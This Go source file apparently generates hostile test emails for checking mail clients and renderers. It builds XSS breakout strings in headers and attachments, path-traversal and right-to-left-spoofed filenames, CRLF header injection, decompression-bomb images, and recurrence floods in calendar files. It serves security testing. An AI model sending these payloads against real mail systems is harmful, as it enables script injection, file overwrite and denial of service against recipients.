package hostile

import (
	"bytes"
	"encoding/base64"
	"fmt"
	"slices"
	"strings"
)

// attack is a text that breaks out of attributes, elements and templates.
func attack(name string) string {
	return `"><img src=x onerror="` + js(name) + `">{{7*7}}${7*7}<!--`
}

// fields are groups 26 and 27.
func fields() []Vector {
	field := func(name, header string) Vector {
		return whole(26, name, Script|Old, func(name string) []byte {
			h := strings.ReplaceAll(header, "ATTACK", attack(name))
			return crlf(h + "\nMIME-Version: 1.0\nContent-Type: text/plain\n\nbody of " + name + "\n")
		})
	}
	file := func(name, params string) Vector {
		return whole(27, name, Looks, func(name string) []byte {
			return crlf("From: m@evil.test\nTo: ada@x.test\nSubject: " + name + "\nMIME-Version: 1.0\n" +
				"Content-Type: multipart/mixed; boundary=b\n\n--b\nContent-Type: text/plain\n\nsee the file\n--b\n" +
				"Content-Type: application/octet-stream\nContent-Transfer-Encoding: base64\n" +
				"Content-Disposition: attachment" + params + "\n\naGVsbG8=\n--b--\n")
		})
	}
	return []Vector{
		field("a-subject", "From: m@evil.test\nTo: ada@x.test\nSubject: ATTACK"),
		field("b-from", "From: \"ATTACK\" <m@evil.test>\nTo: ada@x.test\nSubject: 26b"),
		field("c-address", "From: <ATTACK@evil.test>\nTo: <\"ATTACK\"@x.test>\nCc: ATTACK: a@b;\nSubject: 26c"),
		field("d-header-name", "From: m@evil.test\nSubject: 26d\nX-\"><img/src=x/onerror=alert(1)>: ATTACK\nX-ATTACK: y"),
		field("e-encoded", "From: m@evil.test\nTo: ada@x.test\nSubject: =?utf-8?q?=22=3E=3Cscript=3Ealert=281=29="+
			"3C/script=3E=0D=0AX:_y?="),
		field("f-message-id", "From: m@evil.test\nMessage-ID: <ATTACK>\nReferences: <ATTACK>\nIn-Reply-To: <ATTAC"+
			"K>\nSubject: 26f"),
		field("g-date", "From: m@evil.test\nDate: ATTACK\nSubject: 26g\nList-Unsubscribe: <javascript:alert(1)>, "+
			"<ATTACK>\nList-ID: ATTACK"),
		field("h-received", "Received: from ATTACK (ATTACK [1.2.3.4]) by x; now\nReturn-Path: <ATTACK>\nFrom: m@e"+
			"vil.test\nSubject: 26h"),
		whole(26, "i-content-id", Script|Old, func(name string) []byte {
			return crlf("From: m@evil.test\nSubject: 26i\nMIME-Version: 1.0\nContent-Type: multipart/related; bounda" +
				"ry=b\n\n--b\n" +
				"Content-Type: text/html\n\n<img src=\"cid:x&quot;onerror=alert(1)\"><img src='cid:../../x'>\n--b\n" +
				"Content-Type: image/png\nContent-ID: <x\"onerror=alert(1)>\nContent-Description: " + attack(name) +
				"\nContent-Location: " + attack(name) + "\n\nx\n--b\nContent-Type: image/png\nContent-ID: <../../x>\n\n" +
				"x\n--b--\n")
		}),
		field("j-bidi", "From: \"\u202emoc.knab@nimda\" <m@evil.test>\nTo: ada@x.test\nSubject: \u202eevi"+
			"l\u2066\u0000\u0007"),
		file("a-path", `; filename="../../../etc/passwd"`),
		file("b-windows-path", `; filename="..\\..\\C:\\x.exe"`),
		file("c-crlf", "; filename*=utf-8''a%0d%0aSet-Cookie:%20x=y%0d%0a%0d%0a.txt"),
		file("d-quotes", `; filename="a\"; filename=\"b.html\\"`),
		file("e-bidi", "; filename=\"invoice\u202efdp.exe\""),
		file("f-long", `; filename="`+strings.Repeat("long", 1250)+`.txt"`),
		file("g-empty", `; filename=""`),
		file("h-none", ""),
		file("i-double", `; filename="photo.html.exe"`),
		file("j-segments", "; filename*0*=utf-8''%2e%2e%2f; filename*1*=%3cimg%20src%3dx; filename*2=\".html\""),
		file("k-script", `; filename="<img src=x onerror=alert(1)>.txt"`),
		file("l-devices", `; filename="CON.txt"; name="nul\0x"`),
		file("m-dots", `; filename="...."`),
		file("n-control", "; filename=\"a\x01\x1b[31m\x7f.txt\""),
	}
}

// attachments are groups 28 to 31.
func attachments() []Vector {
	all := attachedTypes()
	for _, open := range []string{"document", "script", "style", "worker", "iframe", "object"} {
		all = append(all, whole(29, "-as-"+open, Script|Click, func(name string) []byte {
			return attached(name, "text/html; name=page.html", "<script>"+js(name)+"</script>/*/"+js(name)+"/*/")
		}))
	}
	return append(all,
		whole(30, "a-gif-script", Looks, func(name string) []byte {
			return attached(name, "image/gif; name=x.gif", "GIF89a/*\x00\x00\x00\x00*/=1;"+js(name)+"//<script>"+js(name)+
				"</script>")
		}),
		whole(30, "b-png-bomb", Looks, func(name string) []byte {
			return attached(name, "image/png; name=bomb.png",
				pngBomb())
		}),
		whole(30, "c-gif-frames", Looks, func(name string) []byte {
			return attached(name, "image/gif; name=frames.gif",
				gifFrames())
		}),
		whole(30, "d-exif", Looks, func(name string) []byte {
			exif := strings.Repeat("\xff\xe1\xff\xffExif\x00\x00"+strings.Repeat("A", 65525), 20)
			return attached(name, "image/jpeg; name=exif.jpg", "\xff\xd8"+exif+"\xff\xd9")
		}),
		whole(30, "e-svg", Script|Click, func(name string) []byte {
			return attached(name, "image/svg+xml; name=x.svg", svg(name))
		}),
		whole(31, "a-ics", Script|Old, func(name string) []byte {
			return attached(name, "text/calendar; method=REQUEST; name=x.ics",
				"BEGIN:VCALENDAR\r\nVERSION:2.0\r\nBEGIN:VEVENT\r\n"+
					"SUMMARY:"+attack(name)+"\r\nDESCRIPTION:<img src=x onerror=\""+js(name)+
					"\">\r\nX-ALT-DESC;FMTTYPE=text/html:<script>"+
					js(name)+"</script>\r\nURL:javascript:alert(1)\r\nORGANIZER;CN=\"<img src=x>\":mailto:x\r\nEND:VEVEN"+
					"T\r\nEND:VCALENDAR\r\n")
		}),
		whole(31, "b-rrule", Looks, func(name string) []byte {
			return attached(name, "text/calendar; name=x.ics", "BEGIN:VCALENDAR\r\nBEGIN:VEVENT\r\nDTSTART:20260101T"+
				"000000Z\r\n"+
				strings.Repeat("RRULE:FREQ=SECONDLY;INTERVAL=1\r\n", 100_000)+"END:VEVENT\r\nEND:VCALENDAR\r\n")
		}),
		whole(31, "c-vcard", Script|Old, func(name string) []byte {
			return attached(name, "text/vcard; name=x.vcf", "BEGIN:VCARD\r\nFN:"+attack(name)+"\r\nPHOTO;VALUE=URI:"+
				url(name)+".png\r\nEND:VCARD\r\n")
		}),
		whole(31, "d-amp", Script|Load, func(name string) []byte {
			return crlf("From: m@evil.test\nSubject: " + name + "\nMIME-Version: 1.0\nContent-Type: multipart/altern" +
				"ative; boundary=b\n\n" +
				"--b\nContent-Type: text/plain\n\nplain\n--b\nContent-Type: text/x-amp-html\n\n<!doctype html><html ⚡" +
				"4email><script async src=\"" +
				url(name) + ".js\"></script><script>" + js(name) + "</script><amp-img src=\"" + url(name) +
				".png\"></amp-img>\n--b--\n")
		}),
	)
}

// attachedTypes is group 28: HTML and script under many types.
func attachedTypes() []Vector {
	var all []Vector
	for i, typ := range []string{"text/html", "image/svg+xml", "text/xml", "application/xhtml+xml",
		"multipart/x-mixed-replace",
		"text/javascript", "application/pdf", "", "image/png", "text/plain", "application/octet-stream",
		"text/html;name=\"x.png\"",
		"image/png;name=\"x.html\"", "application/x-shockwave-flash", "text/xsl", "application/wasm",
		"message/external-body",
		"image/png\r\n X-Injected: 1", "text/html;charset=utf-7", "application/manifest+json", "text/css", "text/vtt"} {
		name := fmt.Sprintf("%c-%s", 'a'+i, strings.Map(func(r rune) rune {
			if r >= 'a' && r <= 'z' || r == '-' {
				return r
			}
			return '-'
		}, strings.ToLower(typ)))
		all = append(all, whole(28, strings.Trim(name, "-"), Script|Click, func(name string) []byte {
			return attached(name, typ, svg(name)+"<html><body onload=\""+js(name)+"\"><script>"+js(name)+"</script>")
		}))
	}
	return all
}

func svg(name string) string {
	return `<svg xmlns="http://www.w3.org/2000/svg" onload="` + js(name) + `"><script>` + js(name) + `</script></svg>`
}

// attached is a message with one file.
func attached(name, typ, content string) []byte {
	if typ != "" {
		typ = "Content-Type: " + typ + "\n"
	}
	head := crlf("From: m@evil.test\nTo: ada@x.test\nSubject: " + name + "\nMIME-Version: 1.0\n" +
		"Content-Type: multipart/mixed; boundary=b\n\n--b\nContent-Type: text/html\n\n<p>see <img src=\"cid:fil" +
		"e\"></p>\n--b\n" +
		typ + "Content-Transfer-Encoding: base64\nContent-ID: <file>\nContent-Disposition: attachment\n\n")
	return append(head, encodeFrom+content+encodeTo+"\r\n--b--\r\n"...)
}

// What stands between these is encoded once the beacon is in place.
const (
	encodeFrom = "{{BASE64}}"
	encodeTo   = "{{/BASE64}}"
)

// encode writes what is marked in base64.
func encode(m []byte) []byte {
	head, rest, ok := bytes.Cut(m, []byte(encodeFrom))
	if !ok {
		return m
	}
	content, tail, _ := bytes.Cut(rest, []byte(encodeTo))
	out := bytes.NewBuffer(slices.Clone(head))
	b := base64.StdEncoding.EncodeToString(content)
	for len(b) > 76 {
		out.WriteString(b[:76] + "\r\n")
		b = b[76:]
	}
	out.WriteString(b)
	out.Write(tail)
	return out.Bytes()
}
